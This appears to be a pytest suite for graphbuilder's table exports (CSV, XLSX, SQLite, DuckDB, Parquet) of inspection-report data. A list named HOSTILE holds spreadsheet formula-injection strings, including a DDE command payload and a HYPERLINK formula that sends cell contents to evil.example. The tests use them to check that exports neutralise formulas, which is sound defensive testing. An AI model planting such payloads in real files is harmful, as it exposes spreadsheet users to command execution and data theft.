"""Tables: each format holds what the graph says, keys join, nothing runs as a formula, the same build gives the same."""

from __future__ import annotations

import csv
import json
import re
import resource
import sqlite3
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pyoxigraph as ox
import pytest
import tables
from click.testing import CliRunner
from csvw import CSVW
from support import REPOSITORY, environment

from graphbuilder import cli
from graphbuilder.errors import GraphbuilderError, UsageError
from graphbuilder.exports import Selection, export, find_export, select
from graphbuilder.exports.tables import sheets
from graphbuilder.exports.tables.csv_folder import METADATA, write_csv
from graphbuilder.exports.tables.declared import TABLES
from graphbuilder.exports.tables.filling import VIEWS, write_sqlite
from graphbuilder.exports.tables.reading import first_day
from graphbuilder.exports.tables.schema import KINDS
from graphbuilder.exports.tables.styling import GRADE_COLOURS
from graphbuilder.exports.tables.workbook import write_xlsx
from graphbuilder.rendering import harmless
from graphbuilder.vocabulary import term

DCTERMS = "http://purl.org/dc/terms/"
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"press me")',
    "+1",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    "''@x",
    "＝1+1",
    "{=1}",
    "'plain",
    'say "so", he said\r\nand went',
    "a;b,c\td",
]


@dataclass(frozen=True)
class Altered(Selection):
    """A selection whose quads a test changes."""

    change: Callable[[ox.Quad], Iterator[ox.Quad]] = field(default=iter)  # type: ignore[assignment]

    def quads(self, graph: str) -> Iterator[ox.Quad]:
        for quad in super().quads(graph):
            yield from self.change(quad)


def altered(build: Path, change: Callable[[ox.Quad], Iterator[ox.Quad]]) -> Altered:
    whole = select(build)
    return Altered(whole.folder, whole.manifest, whole.reports, whole.shared, change=change)


@pytest.fixture(scope="module")
def made(example_build: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Format → the export of the examples."""
    folder = tmp_path_factory.mktemp("tables")
    paths = {format: folder / f"{format}{tables.SUFFIX[format]}" for format in tables.FORMATS}
    for format, path in paths.items():
        export(example_build, format, path)
    return paths


@pytest.fixture(scope="module")
def store(example_build: Path) -> ox.Store:
    return tables.load(example_build)


# ---------------------------------------------------------------- the same as the graph


@pytest.mark.parametrize("format", tables.FORMATS)
def test_every_table_has_the_rows_that_the_graph_has(
    format: str, made: dict[str, Path], store: ox.Store, example_build: Path
) -> None:
    found = tables.read(format, made[format])
    for table in TABLES:
        assert tables.held_keys(found[table.name], table) == tables.stated_keys(store, example_build, table), table.name
    assert sum(map(len, found.values())) > 1000


@pytest.mark.parametrize("format", tables.FORMATS)
def test_every_format_holds_the_same_values(format: str, made: dict[str, Path]) -> None:
    found, others = tables.read(format, made[format]), tables.read("sqlite", made["sqlite"])
    for table in TABLES:
        by_key = {tuple(row[name] for name in table.key): row for row in others[table.name]}
        assert {tuple(row[name] for name in table.key): row for row in found[table.name]} == by_key, table.name


@pytest.mark.parametrize("format", tables.FORMATS)
def test_judgements_can_be_rebuilt_from_the_tables_alone(format: str, made: dict[str, Path], store: ox.Store) -> None:
    found = tables.rebuilt_judgements(tables.read(format, made[format]))
    assert found == tables.stated_judgements(store)
    assert len(found) > 20


@pytest.mark.parametrize("format", tables.FORMATS)
def test_keys_join(format: str, made: dict[str, Path]) -> None:
    assert tables.orphans(tables.read(format, made[format])) == []


def test_a_key_without_its_row_is_found(made: dict[str, Path]) -> None:
    found = tables.read("csv", made["csv"])
    found["grades"] = [row for row in found["grades"] if row["id"] != "good"]
    assert "judgements.grade: good" in tables.orphans(found)


def test_rows_stand_in_the_order_that_is_declared(made: dict[str, Path]) -> None:
    for table in TABLES:
        rows = list(tables.read_csv(made["csv"], table))
        names = dict.fromkeys((*table.order, *table.key))
        assert rows == sorted(rows, key=lambda row: [(row[name] is not None, row[name] or 0) for name in names])
        assert rows == list(tables.read_xlsx(made["xlsx"], table)) == list(tables.read_parquet(made["parquet"], table))


@pytest.mark.parametrize("part", [{"authority": "Havering"}, {"report": "redbridge-2019.txt"}], ids=str)
def test_a_part_of_the_build_has_keys_that_join(part: dict[str, str], example_build: Path, tmp_path: Path) -> None:
    selection = export(example_build, "csv", tmp_path / "part", **part)
    found = tables.read("csv", tmp_path / "part")
    assert tables.orphans(found) == []
    assert [row["id"] for row in found["reports"]] == [report.removeprefix(tables.BASE) for report in selection.reports]
    assert {row["report"] for row in found["facts"]} == {row["id"] for row in found["reports"]}
    assert len(found["authorities"]) > 150, "the things that keys mean are there whatever was chosen"


def test_what_joins_reports_is_in_the_tables(made: dict[str, Path], store: ox.Store) -> None:
    found = tables.read("sqlite", made["sqlite"])
    for name, column, link in (
        ("inspections", "preceded_by", "precededBy"),
        ("inspections", "resolved_to", "resolvedTo"),
    ):
        held = {(row["id"], row[column]) for row in found[name] if row[column]}
        said = {
            (row["a"].removeprefix(tables.BASE), row["b"].removeprefix(tables.BASE))
            for row in tables.ask(store, f"SELECT ?a ?b {{ ?a gb:{link} ?b }}")
        }
        assert held == said != set()


def test_an_arrangement_names_all_that_state_the_same(
    example_build: Path, made: dict[str, Path], tmp_path: Path
) -> None:
    first, *others = [row["fact"] for row in tables.read("sqlite", made["sqlite"])["arrangements"]][:3]
    added: list[str] = []

    def change(quad: ox.Quad) -> Iterator[ox.Quad]:
        yield quad
        if str(quad.graph_name).endswith("graph/links>") and not added:
            for other in others:
                added.append(other)
                ends = [ox.NamedNode(tables.BASE + name) for name in (first, other)]
                yield ox.Quad(ends[0], ox.NamedNode(term("gb:reciprocatedBy")[1:-1]), ends[1], quad.graph_name)

    write_sqlite(altered(example_build, change), tmp_path / "linked.sqlite")
    rows = {row["fact"]: row for row in tables.read("sqlite", tmp_path / "linked.sqlite")["arrangements"]}
    assert rows[first]["reciprocated_by"] == "; ".join(others) and len(others) == 2
    assert rows[others[0]]["reciprocated_by"] is None


def test_a_fact_of_two_reports_stands_in_two_rows_and_repeats_once(example_build: Path, tmp_path: Path) -> None:
    """A report and the copy of its text say the same facts: each keeps its words."""
    reports = tmp_path / "reports"
    reports.mkdir()
    text = (REPOSITORY / "examples" / "reports" / "havering-2013.txt").read_text(encoding="utf-8")
    (reports / "one.txt").write_text(text, encoding="utf-8")
    (reports / "two.txt").write_text(text + "\n\nA line more.\n", encoding="utf-8")
    from graphbuilder import build

    build([reports], tmp_path / "output", workers=1)
    export(tmp_path / "output", "sqlite", tmp_path / "two.sqlite")
    found = tables.read("sqlite", tmp_path / "two.sqlite")
    for name in ("judgements", "facts", "recommendations"):
        again = [row for row in found[name] if row["repeats"]]
        once = [row for row in found[name] if not row["repeats"]]
        assert len(again) == len(once) > 0
        assert {row["fact"] for row in again} == {row["fact"] for row in once}
    assert len(found["inspections"]) == len({row["id"] for row in found["inspections"]})


def test_of_what_several_reports_say_of_a_thing_the_first_wins_and_gaps_are_closed(
    example_build: Path, tmp_path: Path
) -> None:
    whole = select(example_build)
    first, second = whole.reports[:2]
    person, name, hmi = (f"{tables.BASE}person/ada-example", "http://xmlns.com/foaf/0.1/name", term("gb:isHMI")[1:-1])

    def change(quad: ox.Quad) -> Iterator[ox.Quad]:
        yield quad
        graph = quad.graph_name
        if quad.predicate.value.endswith("#fileName") and graph.value in (first, second):  # type: ignore[union-attr]
            node = ox.NamedNode(person)
            kind = ox.NamedNode("http://xmlns.com/foaf/0.1/Person")
            yield ox.Quad(node, ox.NamedNode("http://www.w3.org/1999/02/22-rdf-syntax-ns#type"), kind, graph)
            printed = "Ada Example" if graph.value == first else "A. Example"  # type: ignore[union-attr]
            yield ox.Quad(node, ox.NamedNode(name), ox.Literal(printed), graph)
            if graph.value == second:  # type: ignore[union-attr]
                yield ox.Quad(node, ox.NamedNode(hmi), ox.Literal(True), graph)

    write_sqlite(altered(example_build, change), tmp_path / "people.sqlite")
    [row] = [row for row in tables.read("sqlite", tmp_path / "people.sqlite")["people"] if "ada" in row["id"]]
    assert (row["name"], row["hmi"]) == ("Ada Example", True)


def test_a_key_that_does_not_join_stops_the_export(example_build: Path, tmp_path: Path) -> None:
    def change(quad: ox.Quad) -> Iterator[ox.Quad]:
        if getattr(quad.subject, "value", "") != f"{tables.BASE}authority/havering":
            yield quad

    with pytest.raises(GraphbuilderError, match="needs a row that authorities does not hold; build again"):
        write_csv(altered(example_build, change), tmp_path / "csv")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("printed", "day"), [("2013-02-25", "2013-02-25"), ("2013-02", "2013-02-01"), ("2013", "2013-01-01")]
)
def test_a_month_or_a_year_is_its_first_day(printed: str, day: str) -> None:
    assert first_day(printed) == day


# ---------------------------------------------------------------- formulas


@pytest.fixture(scope="module")
def hostile(example_build: Path) -> Altered:
    """Texts of reports that a spreadsheet would run: recommendations, titles and files."""
    left = HOSTILE * 50

    def change(quad: ox.Quad) -> Iterator[ox.Quad]:
        is_text = isinstance(quad.object, ox.Literal) and quad.predicate.value in (
            f"{DCTERMS}description",
            f"{DCTERMS}title",
            term("gb:fileName")[1:-1],
            term("gb:section")[1:-1],
            "http://www.w3.org/ns/oa#exact",
        )
        is_report = isinstance(quad.graph_name, ox.NamedNode) and "/report/" in quad.graph_name.value
        text = ox.Literal(left[hash_of(quad) % len(HOSTILE)]) if is_text and is_report else quad.object
        yield ox.Quad(quad.subject, quad.predicate, text, quad.graph_name)

    return altered(example_build, change)


def hash_of(quad: ox.Quad) -> int:
    return sum(str(quad.subject).encode()) + len(str(quad.predicate))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_is_harmless_and_can_be_had_back(text: str) -> None:
    written = harmless(text)
    assert not re.match(r"[=+\-@\t\r\n＝＋－＠]", written)
    back = written[1:] if re.match(r"'+[=+\-@\t\r\n＝＋－＠]", written) else written
    assert back == text


def test_no_cell_of_csv_runs_as_a_formula(hostile: Altered, tmp_path: Path) -> None:
    write_csv(hostile, tmp_path / "csv")
    for table in TABLES:
        text = {number for number, column in enumerate(table.columns) if column.type == "text"}
        with (tmp_path / "csv" / f"{table.name}.csv").open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file, strict=True):
                for number, cell in enumerate(row):
                    if number in text:
                        assert not re.match(r"[=+\-@\t\r\n＝＋－＠]", cell)
                    else:
                        assert not re.match(r"[=+@\t\r\n＝＋－＠]|-(?![\d.]+$)", cell)
    found = {row["text"] for row in tables.read("csv", tmp_path / "csv")["recommendations"]}
    assert len(found) > 5 and found <= set(HOSTILE), "the texts are as they were"


def test_no_cell_of_a_workbook_is_a_formula(hostile: Altered, tmp_path: Path) -> None:
    path = tmp_path / "tables.xlsx"
    write_xlsx(hostile, path)
    texts = set()
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "d", "inlineStr"), cell.coordinate
                texts.add(cell.value)
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                body = re.sub(
                    rb"<conditionalFormatting.*</conditionalFormatting>", b"", book.read(name), flags=re.DOTALL
                )
                assert not re.search(rb"<f[ >]", body), name
    assert {"=1+1", "@SUM(A1)", "-1+cmd"} <= texts


# ---------------------------------------------------------------- the same bytes


@pytest.mark.parametrize("format", [format for format in tables.FORMATS if format != "duckdb"])
def test_the_same_build_gives_the_same_bytes(format: str, example_build: Path, tmp_path: Path) -> None:
    """In two processes whose sets and dates differ. (DuckDB writes its file anew each time; its rows are the same.)"""
    found = []
    for number, zone in enumerate(("UTC", "Asia/Tokyo")):
        path = tmp_path / f"{number}{tables.SUFFIX[format]}"
        done = subprocess.run(
            [sys.executable, "-m", "graphbuilder", "-q", "export", format, "-g", str(example_build), "-o", str(path)],
            env=environment() | {"PYTHONHASHSEED": str(number + 1), "TZ": zone},
            timeout=120,
            check=True,
        )
        assert done.returncode == 0
        files = sorted(path.iterdir()) if path.is_dir() else [path]
        found.append({file.name if path.is_dir() else "": file.read_bytes() for file in files})
    assert found[0] == found[1]


# ---------------------------------------------------------------- CSV on the Web


def problems(folder: Path) -> list[str]:
    """What csvw, which shares nothing with what wrote the files, finds wrong."""
    with warnings.catch_warnings(record=True):
        warnings.simplefilter("always")
        found = CSVW(str(folder / METADATA), validate=True, strict=False)  # strict: no key may be empty
        try:
            return [] if found.is_valid else [str(warning.message) for warning in found.warnings]
        except ValueError as error:
            return [str(error)]


def test_the_description_is_valid_and_the_files_follow_it(made: dict[str, Path]) -> None:
    assert problems(made["csv"]) == []
    described = CSVW(str(made["csv"] / METADATA), validate=True)
    assert described.warnings == [] and len(described.tablegroup.tables) == len(TABLES)


@pytest.mark.parametrize(
    ("name", "before", "after"),
    [
        ("inspections.csv", "2013-02-25", "25 February 2013"),
        ("judgements.csv", ",true,", ",perhaps,"),
        ("grades.csv", "good", "very-good"),
    ],
)
def test_files_that_do_not_follow_it_are_found(
    name: str, before: str, after: str, example_build: Path, tmp_path: Path
) -> None:
    export(example_build, "csv", tmp_path / "csv")
    path = tmp_path / "csv" / name
    text = path.read_text(encoding="utf-8")
    assert before in text
    path.write_text(text.replace(before, after), encoding="utf-8", newline="")
    assert problems(tmp_path / "csv") != []


def test_keys_are_described_by_the_iris_that_they_stand_for(made: dict[str, Path], store: ox.Store) -> None:
    said = json.loads((made["csv"] / METADATA).read_text(encoding="utf-8"))
    found = tables.read("csv", made["csv"])
    subjects = {getattr(quad.subject, "value", "") for quad in store}
    checked = 0
    for table in said["tables"]:
        for column in table["tableSchema"]["columns"]:
            for row in found[table["url"].removesuffix(".csv")] if "valueUrl" in column else ():
                value = row[column["name"]]
                if value is not None:
                    assert column["valueUrl"].replace(f"{{+{column['name']}}}", str(value)) in subjects
                    checked += 1
    assert checked > 1000


def test_records_end_as_rfc_4180_says(made: dict[str, Path]) -> None:
    data = (made["csv"] / "judgements.csv").read_bytes()
    assert data.endswith(b"\r\n") and not data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8").splitlines()[0] == ",".join(TABLES[0].names)


# ---------------------------------------------------------------- SQLite, DuckDB, Parquet


def test_the_sqlite_file_is_whole_and_its_views_answer(made: dict[str, Path]) -> None:
    base = sqlite3.connect(made["sqlite"])
    assert base.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    assert base.execute("PRAGMA foreign_key_check").fetchall() == []
    for name in VIEWS:
        assert base.execute(f"SELECT count(*) FROM {name}").fetchone()[0] > 0, name
    indexed = {row[0] for row in base.execute("SELECT name FROM sqlite_schema WHERE type = 'index'")}
    assert "judgements_inspection" in indexed
    with pytest.raises(sqlite3.IntegrityError):
        base.execute("PRAGMA foreign_keys = ON")
        base.execute("INSERT INTO arrangement_authorities (arrangement, authority) VALUES ('none', 'none')")
    base.close()


def test_the_latest_grades_are_those_of_the_stored_question(made: dict[str, Path], example_build: Path) -> None:
    from graphbuilder import open_graph

    base = sqlite3.connect(made["sqlite"])
    held = {
        (row[0], row[1].lower(), row[2].lower(), row[3])
        for row in base.execute("SELECT authority_name, area_name, grade_name, framework FROM latest_grades")
    }
    said = {
        (row[0], row[1].lower(), row[2].lower(), row[4])
        for row in open_graph(example_build).query("latest-grades").rows
    }
    base.close()
    assert held == said


def test_the_duckdb_file_has_keys_comments_and_views(made: dict[str, Path]) -> None:
    import duckdb

    with duckdb.connect(str(made["duckdb"]), read_only=True) as base:
        kinds = dict(
            base.execute(
                "SELECT constraint_type, count(*) FROM duckdb_constraints() GROUP BY constraint_type"
            ).fetchall()
        )
        assert kinds["PRIMARY KEY"] == len(TABLES)
        comments = dict(base.execute("SELECT table_name, comment FROM duckdb_tables()").fetchall())
        assert comments == {table.name: table.about for table in TABLES}
        for name in VIEWS:
            assert base.execute(f"SELECT count(*) FROM {name}").fetchone()[0] > 0


def test_keys_join_in_the_duckdb_file_and_comments_say_what_they_are_of(made: dict[str, Path]) -> None:
    """DuckDB does not watch over them: it would hold an index of each in memory."""
    import duckdb

    with duckdb.connect(str(made["duckdb"]), read_only=True) as base:
        said = base.execute("SELECT table_name, column_name, comment FROM duckdb_columns()").fetchall()
        comments = {(table, column): comment for table, column, comment in said}
        for table in TABLES:
            for column in table.foreign_keys:
                assert comments[table.name, column.name].endswith(f" Key: {column.references}.id.")
                found = base.execute(
                    f'SELECT "{column.name}" FROM "{table.name}" AS a WHERE "{column.name}" IS NOT NULL '
                    f'AND NOT EXISTS (SELECT 1 FROM "{column.references}" AS b WHERE b.id = a."{column.name}")'
                ).fetchall()
                assert found == [], (table.name, column.name)


def test_columns_of_parquet_are_typed_and_explained(made: dict[str, Path]) -> None:
    from pyarrow import parquet

    types = {"text": "string", "integer": "int64", "decimal": "double", "boolean": "bool", "date": "date32[day]"}
    for table in TABLES:
        schema = parquet.read_schema(made["parquet"] / f"{table.name}.parquet")
        assert [(item.name, str(item.type)) for item in schema] == [
            (column.name, types[column.type]) for column in table.columns
        ]
        assert all(item.metadata[b"description"] for item in schema)
        assert schema.metadata[b"description"].decode() == table.about


# ---------------------------------------------------------------- the workbook


def test_the_workbook_has_tables_filters_and_frozen_headers(made: dict[str, Path]) -> None:
    book = openpyxl.load_workbook(made["xlsx"])
    assert book.sheetnames == ["Read me", "Latest grades", "Columns", *(table.title for table in TABLES)]
    for table in TABLES:
        sheet = book[table.title]
        [made_table] = sheet.tables.values()
        assert made_table.name == table.name and made_table.autoFilter is not None
        assert sheet.freeze_panes == "B2"
        assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight, sheet.print_title_rows) == (
            "landscape",
            0,
            "$1:$1",
        )
        assert all(sheet.column_dimensions[letter].width < 80 for letter in sheet.column_dimensions)


def test_a_row_is_as_high_as_its_text_and_no_higher_than_twelve_lines(made: dict[str, Path]) -> None:
    book = openpyxl.load_workbook(made["xlsx"])
    for name in ("Recommendations", "Evidence"):
        sheet = book[name]
        heights = {row: sheet.row_dimensions[row].height for row in range(2, sheet.max_row + 1)}
        high = {row: height for row, height in heights.items() if height is not None}
        assert len(high) > 5 and set(high.values()) <= {15.0 * lines for lines in range(2, 13)}
        longest = max(heights, key=lambda row: max(len(str(cell.value or "")) for cell in sheet[row]))
        assert longest in high


def test_nothing_is_kept_of_the_rows_of_a_sheet(
    example_build: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever XlsxWriter calls it: memory must not grow with the rows."""
    kept: dict[str, int] = {}
    write = sheets.Sheet.write

    def watched(self: sheets.Sheet, base: sqlite3.Connection) -> list[str]:
        notes = write(self, base)
        if self.table.name == "evidence":
            held = vars(self.sheet).items()
            kept.update((name, len(value)) for name, value in held if isinstance(value, dict | list | set))
        return notes

    monkeypatch.setattr(sheets.Sheet, "write", watched)
    write_xlsx(select(example_build), tmp_path / "tables.xlsx")
    assert kept and max(kept.values()) < 30 < 200 < len(
        openpyxl.load_workbook(tmp_path / "tables.xlsx")["Evidence"]["A"]
    )


def test_the_read_me_names_every_table_with_its_rows_the_licence_and_the_version(made: dict[str, Path]) -> None:
    book = openpyxl.load_workbook(made["xlsx"])
    lines = [[cell.value for cell in row] for row in book["Read me"].iter_rows()]
    found = tables.read("sqlite", made["sqlite"])
    for table in TABLES:
        assert [table.title, len(found[table.name]), table.about] in lines
    words = " ".join(str(value) for line in lines for value in line if value)
    assert "Open Government Licence v3.0" in words and "graphbuilder 0." in words
    links = {cell.hyperlink.location for row in book["Read me"].iter_rows() for cell in row if cell.hyperlink}
    assert {f"'{table.title}'!A1" for table in TABLES} <= links
    explained = [[cell.value for cell in row] for row in book["Columns"].iter_rows(min_row=2)]
    assert [(line[0], line[2]) for line in explained] == [
        (table.title, column.name) for table in TABLES for column in table.columns
    ]


def test_grades_have_colours_and_their_words(made: dict[str, Path]) -> None:
    book = openpyxl.load_workbook(made["xlsx"])
    sheet = book["Judgements"]
    place = TABLES[0].names.index("grade_name") + 1
    grades = {sheet.cell(row, place).value for row in range(2, sheet.max_row + 1)}
    assert grades <= set(GRADE_COLOURS) and len(grades) > 3
    rules = [rule for ranges in sheet.conditional_formatting for rule in ranges.rules if rule.type == "beginsWith"]
    coloured = {rule.text: rule.dxf.fill.bgColor.rgb[2:] for rule in rules}
    assert coloured == {name: ground[1:] for name, (ground, _) in GRADE_COLOURS.items()}


def test_every_grade_has_a_colour_in_which_its_word_can_be_read(made: dict[str, Path]) -> None:
    """Contrast of at least 4.5 to 1 (WCAG 2.2, 1.4.3)."""
    assert {row["name"] for row in tables.read("csv", made["csv"])["grades"]} == set(GRADE_COLOURS)
    for ground, letters in GRADE_COLOURS.values():
        lighter, darker = sorted((luminance(ground), luminance(letters)), reverse=True)
        assert (lighter + 0.05) / (darker + 0.05) >= 4.5


def luminance(colour: str) -> float:
    parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
    linear = [part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_latest_grades_stand_in_a_row_for_each_authority(made: dict[str, Path]) -> None:
    base = sqlite3.connect(made["sqlite"])
    latest = base.execute("SELECT authority_name, area_name, grade_name FROM latest_grades").fetchall()
    base.close()
    sheet = openpyxl.load_workbook(made["xlsx"])["Latest grades"]
    [header, *rows] = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert header[:4] == ["Authority", "Region", "Last inspected", "Overall effectiveness"]
    held = {
        (row[0], area, value.split(",")[0])
        for row in rows
        for area, value in zip(header[3:], row[3:], strict=True)
        if value
    }
    assert held == set(latest)


def with_sources(build: Path) -> Altered:
    """Each report with an address."""

    def change(quad: ox.Quad) -> Iterator[ox.Quad]:
        yield quad
        if quad.predicate.value == term("gb:fileName")[1:-1]:
            source = ox.NamedNode("https://files.example.org/report.pdf")
            yield ox.Quad(quad.subject, ox.NamedNode(f"{DCTERMS}source"), source, quad.graph_name)

    return altered(build, change)


def test_a_page_is_a_link_to_the_page_where_the_address_is_known(
    example_build: Path, made: dict[str, Path], tmp_path: Path
) -> None:
    write_xlsx(with_sources(example_build), tmp_path / "linked.xlsx")
    table = TABLES[0]
    place = table.names.index("page") + 1
    sheet = openpyxl.load_workbook(tmp_path / "linked.xlsx")[table.title]
    pages = [cell for [cell] in sheet.iter_rows(min_row=2, min_col=place, max_col=place) if cell.value is not None]
    assert len(pages) > 5
    for cell in pages:
        assert isinstance(cell.value, int)
        address, _, anchor = (cell.hyperlink.target or "").partition("#")
        assert (address, anchor or cell.hyperlink.location) == (
            "https://files.example.org/report.pdf",
            f"page={cell.value}",
        )
    plain = openpyxl.load_workbook(made["xlsx"])[table.title]
    assert all(cell.hyperlink is None for row in plain.iter_rows() for cell in row), "no address, no link"


def test_a_sheet_names_an_address_once_and_everything_else_is_as_xlsxwriter_wrote_it(
    example_build: Path, made: dict[str, Path], tmp_path: Path
) -> None:
    write_xlsx(with_sources(example_build), tmp_path / "linked.xlsx")
    number = 4  # Judgements, behind three sheets
    with zipfile.ZipFile(tmp_path / "linked.xlsx") as book, zipfile.ZipFile(made["xlsx"]) as plain:
        assert book.testzip() is None and book.namelist() == plain.namelist()
        related = book.read(f"xl/worksheets/_rels/sheet{number}.xml.rels").decode()
        assert related.count('Target="https://files.example.org/report.pdf" TargetMode="External"') == 1
        sheet = book.read(f"xl/worksheets/sheet{number}.xml")
        before, links, behind = re.split(rb"<hyperlinks>(.*)</hyperlinks>", sheet)
        assert links.count(b"<hyperlink ") > 5 and b"</sheetData>" in before and behind.startswith(b"<pageMargins")
        assert book.read("xl/tables/table1.xml") == plain.read("xl/tables/table1.xml")
    assert [path.name for path in tmp_path.iterdir()] == ["linked.xlsx"]


def test_what_does_not_fit_into_a_sheet_is_said_in_the_read_me(
    example_build: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheets, "ROWS_LIMIT", 9)
    monkeypatch.setattr(sheets, "LINKS_LIMIT", 2)
    monkeypatch.setattr(sheets, "TEXT_LIMIT", 40)
    write_xlsx(with_sources(example_build), tmp_path / "small.xlsx")
    book = openpyxl.load_workbook(tmp_path / "small.xlsx")
    words = [row[0].value or "" for row in book["Read me"].iter_rows()]
    assert any(re.fullmatch(r"Judgements: \d+ rows are left out, as a sheet holds 9\. .*", line) for line in words)
    assert any(re.fullmatch(r"Judgements: [1-7] cells are no links, as a sheet holds 2 .*", line) for line in words)
    assert any(re.fullmatch(r"Recommendations: \d+ texts are cut and end in …, .*", line) for line in words)
    assert book["Judgements"].max_row == 10
    place = TABLES[1].names.index("text") + 1
    texts = [book["Recommendations"].cell(row, place).value for row in range(2, 11)]
    assert all(len(text) <= 40 for text in texts) and any(len(text) == 40 and text.endswith("…") for text in texts)


# ---------------------------------------------------------------- what can go wrong


@pytest.mark.parametrize(("format", "library"), [("parquet", "pyarrow"), ("duckdb", "pyarrow"), ("duckdb", "duckdb")])
def test_a_library_that_is_not_there_is_named_with_the_way_to_get_it(
    format: str, library: str, example_build: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, library, None)
    arguments = ["export", format, "-g", str(example_build), "-o", str(tmp_path / f"out{tables.SUFFIX[format]}")]
    done = CliRunner().invoke(cli.main, arguments)
    assert done.exit_code == 1
    assert f"this format needs {library}: pip install 'graphbuilder[tables]'" in done.output
    assert list(tmp_path.iterdir()) == []


def test_a_graph_that_is_no_report_is_no_table(example_build: Path, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="tables are of reports"):
        export(example_build, "xlsx", tmp_path / "links.xlsx", graph="links")
    assert list(tmp_path.iterdir()) == []


def test_a_cell_counts_in_utf_16_as_excel_does(
    example_build: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheets, "TEXT_LIMIT", 10)

    def change(quad: ox.Quad) -> Iterator[ox.Quad]:
        long = quad.predicate.value == f"{DCTERMS}description" and "/report/" in str(quad.graph_name)
        yield ox.Quad(quad.subject, quad.predicate, ox.Literal("😀" * 9), quad.graph_name) if long else quad

    write_xlsx(altered(example_build, change), tmp_path / "smiles.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "smiles.xlsx")["Recommendations"]
    assert sheet.cell(2, TABLES[1].names.index("text") + 1).value == "😀" * 4 + "…"


def small_files() -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (150_000, 150_000))


@pytest.mark.parametrize("format", tables.FORMATS)
def test_where_no_more_can_be_written_nothing_is_left(format: str, example_build: Path, tmp_path: Path) -> None:
    path = tmp_path / f"out{tables.SUFFIX[format]}"
    done = subprocess.run(
        [sys.executable, "-m", "graphbuilder", "export", format, "-g", str(example_build), "-o", str(path)],
        env=environment(),
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=small_files,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr and "give another path with -o" in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_the_command_writes_every_format(example_build: Path, tmp_path: Path) -> None:
    for format in tables.FORMATS:
        path = tmp_path / f"out-{format}{tables.SUFFIX[format]}"
        done = CliRunner().invoke(cli.main, ["export", format, "-g", str(example_build), "-o", str(path)])
        assert done.exit_code == 0, done.output
        assert path.is_dir() == (tables.SUFFIX[format] == "")
        assert find_export(format).suffix == tables.SUFFIX[format]


# ---------------------------------------------------------------- the declaration


def test_the_declaration_is_in_order() -> None:
    known = {table.name: table for table in TABLES}
    assert len(known) == len(TABLES) == len({table.title for table in TABLES})
    for table in TABLES:
        assert len(set(table.names)) == len({column.title.lower() for column in table.columns}) == len(table.columns)
        assert {*table.key, *table.order} <= set(table.names)
        assert re.fullmatch(r"[a-z_]+", table.name) and len(table.title) <= 31 and table.about.endswith(".")
        for column in table.columns:
            assert column.kind in KINDS and column.about.endswith((".", "…")), (table.name, column.name)
            assert re.fullmatch(r"[a-z][a-z0-9_]*", column.name)
            assert not column.references or known[column.references].key == ("id",)


def test_the_page_of_the_tables_is_what_they_are_declared_to_be() -> None:
    sys.path.insert(0, str(REPOSITORY / "docs"))
    import make_tables

    written = make_tables.PAGE.read_text(encoding="utf-8")
    assert make_tables.page(written) == written, "run python docs/make_tables.py"
    assert all(f"### {table.name}\n" in written for table in TABLES)
